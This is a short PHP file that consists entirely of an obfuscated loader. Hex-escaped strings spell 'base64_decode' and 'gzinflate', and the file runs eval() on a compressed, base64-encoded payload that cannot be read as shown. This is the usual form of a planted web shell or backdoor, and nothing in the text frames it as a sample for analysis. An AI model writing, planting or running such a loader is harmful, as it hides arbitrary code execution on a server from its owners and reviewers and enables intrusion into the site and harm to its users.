<?php
$GLOBALS['_a1b2_'] = Array('\x62\x61\x73\x65\x36\x34\x5f\x64\x65\x63\x6f\x64\x65', '\x67\x7a\x69\x6e\x66\x6c\x61\x74\x65');
function _a1b2($i) { $a = Array('y0zTyCwuTi3RUIkPcg0MdQ0OiVZPVo/V1KxOTc7IV1C3KShKtVO3Vsm3Lc5IzcmJT61ITUZXaw1WmlGSm1NckJqcmZiTnJFYVKyhkg+VUbfRh5hSm5pTnAoxuCCjIL40LzE3VUPTuhYA'); return $a[$i]; }
eval($GLOBALS['_a1b2_'][1]($GLOBALS['_a1b2_'][0](_a1b2(0))));
